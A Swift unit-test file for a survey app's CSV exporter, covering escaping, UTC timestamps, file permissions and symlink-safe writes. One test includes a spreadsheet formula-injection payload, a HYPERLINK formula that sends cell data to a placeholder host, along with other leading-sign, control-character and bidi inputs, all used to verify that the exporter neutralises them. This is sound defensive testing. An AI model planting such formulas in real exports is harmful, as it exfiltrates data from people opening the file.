import XCTest
import SurveyModel
import SurveyStorage

final class CSVExporterTests: XCTestCase {
    func testHeader() {
        XCTAssertEqual(
            CSVExporter.document(for: []),
            "\u{FEFF}submitted_at,name,company,years_of_experience,current_employer,approx_salary,comments\r\n"
        )
    }

    func testRow_plainValues() {
        let response = SurveyResponse(
            answers: SurveyAnswers(
                name: "Ada", companyName: "Engines", yearsOfExperience: 12.5,
                isCurrentEmployer: true, approxSalary: 85_000, comments: "Fine"
            ),
            submittedAt: Date(timeIntervalSince1970: 1_800_000_000)
        )
        XCTAssertEqual(CSVExporter.row(for: response), "2027-01-15T08:00:00Z,Ada,Engines,12.5,true,85000,Fine")
    }

    func testRow_unsetNumbersAreEmptyAndFalseIsSpelled() {
        let response = SurveyResponse(answers: SurveyAnswers(name: "Bo"), submittedAt: Date(timeIntervalSince1970: 0))
        XCTAssertEqual(CSVExporter.row(for: response), "1970-01-01T00:00:00Z,Bo,,,false,,")
    }

    func testEscaping_quotesCommasAndLineBreaks() {
        let response = SurveyResponse(
            answers: SurveyAnswers(name: "Lovelace, Ada", companyName: "The \"Engine\"", comments: "one\r\ntwo"),
            submittedAt: Date(timeIntervalSince1970: 0)
        )
        XCTAssertEqual(
            CSVExporter.row(for: response),
            "1970-01-01T00:00:00Z,\"Lovelace, Ada\",\"The \"\"Engine\"\"\",,false,,\"one\r\ntwo\""
        )
    }

    func testWrite_createsFileWithEveryRow() throws {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        let responses = (1...3).map {
            SurveyResponse(answers: SurveyAnswers(name: "R\($0)"), submittedAt: Date(timeIntervalSince1970: Double($0)))
        }
        try CSVExporter.write(responses, to: target, replacing: false)
        let text = try String(contentsOf: target, encoding: .utf8)
        XCTAssertEqual(text.components(separatedBy: "\r\n").filter { !$0.isEmpty }.count, 4)
    }

    // MARK: - Safe to open in a spreadsheet

    private func row(name: String = "Ada", company: String = "", comments: String = "") -> String {
        CSVExporter.row(for: SurveyResponse(
            answers: SurveyAnswers(name: name, companyName: company, comments: comments),
            submittedAt: Date(timeIntervalSince1970: 0)
        ))
    }

    func testTheDocument_startsWithAByteOrderMark_soSpreadsheetsReadUTF8() {
        let document = CSVExporter.document(for: [
            SurveyResponse(answers: SurveyAnswers(name: "Zoë"), submittedAt: Date(timeIntervalSince1970: 0)),
        ])
        XCTAssertEqual(Array(document.utf8.prefix(3)), [0xEF, 0xBB, 0xBF])
        XCTAssertTrue(document.contains(",Zoë,"))
    }

    func testTextThatAFormulaWouldRun_isNeutralised() {
        XCTAssertEqual(row(name: "=HYPERLINK(\"https://x/?\"&C2,\"x\")"),
                       "1970-01-01T00:00:00Z,\"'=HYPERLINK(\"\"https://x/?\"\"&C2,\"\"x\"\")\",,,false,,")
        for start in ["=", "+", "-", "@"] {
            XCTAssertEqual(row(company: "\(start)1+1"), "1970-01-01T00:00:00Z,Ada,'\(start)1+1,,false,,", start)
        }
        XCTAssertEqual(row(comments: "\tcmd"), "1970-01-01T00:00:00Z,Ada,,,false,,'\tcmd")
        XCTAssertEqual(row(comments: "\rcmd"), "1970-01-01T00:00:00Z,Ada,,,false,,\"'\rcmd\"")
        XCTAssertEqual(row(name: "Ada = Lovelace"), "1970-01-01T00:00:00Z,Ada = Lovelace,,,false,,", "only a leading sign counts")
    }

    func testNumbers_areNotNeutralised() {
        let response = SurveyResponse(
            answers: SurveyAnswers(name: "Ada", yearsOfExperience: 0, approxSalary: 0),
            submittedAt: Date(timeIntervalSince1970: 0)
        )
        XCTAssertEqual(CSVExporter.row(for: response), "1970-01-01T00:00:00Z,Ada,,0,false,0,")
    }

    func testControlAndBidiCharacters_areDropped_lineBreaksKeptInComments() {
        XCTAssertEqual(row(name: "A\u{1B}[31mda\u{202E}", comments: "one\u{7}\ntwo\tthree\u{2066}"),
                       "1970-01-01T00:00:00Z,A[31mda,,,false,,\"one\ntwo\tthree\"")
        XCTAssertEqual(row(name: "Zoë 👩🏽‍💻, Ltd."), "1970-01-01T00:00:00Z,\"Zoë 👩🏽‍💻, Ltd.\",,,false,,")
    }

    // MARK: - Writing the file

    private func mode(_ url: URL) throws -> Int {
        try (FileManager.default.attributesOfItem(atPath: url.path)[.posixPermissions] as! NSNumber).intValue
    }

    func testWrite_makesANewFileTheOwnersOnly_andLeavesNoTemporaryFile() throws {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        try CSVExporter.write([], to: target, replacing: false)
        XCTAssertEqual(try mode(target), 0o600)
        XCTAssertEqual(try folder.contents(), ["export.csv"])
    }

    func testWrite_refusesAnExistingFile_unlessReplacing_andKeepsItsMode() throws {
        let folder = try TemporaryDirectory()
        let target = folder.url.appendingPathComponent("export.csv")
        try Data("yesterday".utf8).write(to: target)
        chmod(target.path, 0o640)
        XCTAssertThrowsError(try CSVExporter.write([], to: target, replacing: false)) { error in
            XCTAssertEqual((error as? StorageError)?.code, .fileExists)
        }
        XCTAssertEqual(try String(contentsOf: target, encoding: .utf8), "yesterday")

        try CSVExporter.write([], to: target, replacing: true)
        XCTAssertEqual(try Data(contentsOf: target), Data(CSVExporter.document(for: []).utf8))
        XCTAssertEqual(try mode(target), 0o640)
        XCTAssertEqual(try folder.contents(), ["export.csv"])
    }

    func testWrite_replacesALinkItself_neverItsTarget() throws {
        let folder = try TemporaryDirectory()
        let precious = folder.url.appendingPathComponent("precious")
        try Data("keep".utf8).write(to: precious)
        let link = folder.url.appendingPathComponent("export.csv")
        try FileManager.default.createSymbolicLink(at: link, withDestinationURL: precious)

        XCTAssertThrowsError(try CSVExporter.write([], to: link, replacing: false))
        try CSVExporter.write([], to: link, replacing: true)
        XCTAssertEqual(try String(contentsOf: precious, encoding: .utf8), "keep")
        XCTAssertNil(try? FileManager.default.destinationOfSymbolicLink(atPath: link.path))
        XCTAssertEqual(try Data(contentsOf: link), Data(CSVExporter.document(for: []).utf8))
    }

    func testWrite_toMissingFolderReportsError() throws {
        let target = URL(fileURLWithPath: "/nonexistent-\(UUID().uuidString)/export.csv")
        XCTAssertThrowsError(try CSVExporter.write([], to: target, replacing: false)) { error in
            XCTAssertTrue((error as? StorageError)?.message.contains("export") == true)
        }
    }

    // MARK: - Streaming from the store

    func testWriteFromTheStore_isTheDocumentOfItsResponses_acrossManyPieces() throws {
        let folder = try TemporaryDirectory()
        let store = try ResponseStore(directory: folder.url.appendingPathComponent("data"))
        // Enough rows for several 64 KiB pieces.
        let responses = (1...1_500).map { index in
            SurveyResponse(
                answers: SurveyAnswers(name: "Respondent \(index)", comments: String(repeating: "x", count: 60)),
                submittedAt: Date(timeIntervalSince1970: Double(index))
            )
        }
        for response in responses { try store.insert(response) }
        let target = folder.url.appendingPathComponent("export.csv")
        XCTAssertEqual(try CSVExporter.write(from: store, to: target, replacing: false), 1_500)
        XCTAssertEqual(try Data(contentsOf: target), Data(CSVExporter.document(for: responses).utf8))
    }

    func testTimestamps_areUTCWholeSeconds() {
        func stamp(_ seconds: TimeInterval) -> String {
            String(CSVExporter.row(for: SurveyResponse(answers: SurveyAnswers(name: "A"), submittedAt: Date(timeIntervalSince1970: seconds)))
                .prefix { $0 != "," })
        }
        XCTAssertEqual(stamp(0), "1970-01-01T00:00:00Z")
        XCTAssertEqual(stamp(1_800_000_000.9), "2027-01-15T08:00:00Z")
        XCTAssertEqual(stamp(951_782_400), "2000-02-29T00:00:00Z")
        XCTAssertEqual(stamp(4_102_444_799), "2099-12-31T23:59:59Z")
    }
}
